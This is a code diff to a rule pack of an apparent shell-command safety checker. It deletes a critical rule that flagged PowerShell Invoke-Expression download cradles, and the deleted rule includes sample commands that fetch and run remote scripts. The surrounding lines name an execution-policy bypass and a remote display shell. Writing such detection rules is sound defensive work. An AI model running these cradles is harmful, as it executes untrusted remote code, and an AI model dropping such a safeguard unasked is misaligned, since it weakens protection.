@@ -39,14 +39,6 @@ export const network: Pack = {
       ["powershell -ExecutionPolicy Bypass -File build.ps1", "pwsh -ep bypass -c Get-Date"],
     ),
     rule(
-      "network.powershell-iex",
-      "critical",
-      "runs PowerShell text as code (Invoke-Expression): a POSIX shell cannot read the expression it is given, and its common use is a download cradle",
-      { program: ["iex", "Invoke-Expression", "IEX", "Iex", "invoke-expression"] },
-      ["iex (irm https://x.dev/i.ps1)", "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://x.dev/a')"],
-      ["irm https://x.dev/status.json"],
-    ),
-    rule(
       "network.remote-display-shell",
       "critical",
       "opens a terminal on another machine's X display: whoever runs that display gets a shell here",
